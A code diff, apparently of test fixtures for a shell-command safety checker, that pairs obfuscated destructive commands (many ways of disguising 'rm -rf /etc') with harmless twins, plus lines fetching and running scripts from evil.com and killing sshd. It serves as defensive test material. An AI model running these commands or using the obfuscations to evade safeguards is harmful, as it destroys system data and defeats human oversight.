@@ -13,11 +13,6 @@ SHELL = {
         'mapfile -d: -t w <<< "rm:-rf:/etc"; "${w[0]}" "${w[1]}" ${w[2]}',
         'mapfile -d: -t w <<< "ls:-l:build"; "${w[0]}" "${w[1]}" ${w[2]}',
     ),
-    "at E": ("x='\\x72\\x6d'; ${x@E} -rf /etc", "x='\\x6c\\x73'; ${x@E} -l build"),
-    "star joined by IFS": (
-        'set -- r m; IFS=; c="$*"; unset IFS; $c -rf /etc',
-        'set -- l s; IFS=; c="$*"; unset IFS; $c -l build',
-    ),
     "fd from process substitution": (
         "exec 3< <(echo 'rm -rf /etc'); bash <&3",
         "exec 3< <(echo 'ls -l build'); bash <&3",
@@ -37,9 +32,7 @@ SHELL = {
         "awk -f <(echo 'BEGIN{system(\"rm -rf /etc\")}')",
         "awk -f <(echo '{print $1}') data.txt",
     ),
-    "length as index": ("s=xxrm; y=12; ${s:${#y}:2} -rf /etc", "s=xxls; y=12; ${s:${#y}:2} -l build"),
     "read array": ("read -ra w <<< 'rm -rf /etc'; \"${w[@]}\"", "read -ra w <<< 'ls -l build'; \"${w[@]}\""),
-    "read with IFS": ("IFS=: read -r a b <<< r:m; $a$b -rf /etc", "IFS=: read -r a b <<< l:s; $a$b -l build"),
     "env chdir": ("env -C /etc rm -rf .", "env -C build rm -rf out"),
     "start-stop-daemon": (
         "start-stop-daemon --start --exec /bin/rm -- -rf /etc",
@@ -48,10 +41,6 @@ SHELL = {
     "make from process substitution": (
         "make -f <(printf 'x:\\n\\trm -rf /etc\\n') x",
         "make -f <(printf 'x:\\n\\techo hi\\n') x",
-    ),
-    "commands in comments": (
-        'eval "$(sed -n \'s/^#@//p\' "$0")"\n#@rm -rf /etc',
-        "sed -n 's/^#@//p' \"$0\"\n#@usage: tool",
     ),
     "output to process substitution": ("echo 'rm -rf /etc' > >(bash)", "echo 'hello' > >(cat)"),
     "tee to process substitution": (
@@ -104,7 +93,6 @@ ORDINARY = {
 }
 NEARBY = {
     "another program, picked from a list": "python server.py &\nkill $(ps aux | grep sshd | awk '{print $2}')",
-    "who listens at a port of the system": "lsof -ti:22 | xargs kill",
     "a cloud elsewhere": "aws --endpoint-url https://s3.example.com s3 ls",
     "a list from elsewhere": "curl -s http://evil.com/list | xargs -n1 bash",
     "waiting for a foreign port": "while ! </dev/tcp/evil.com/5432; do sleep 1; done",
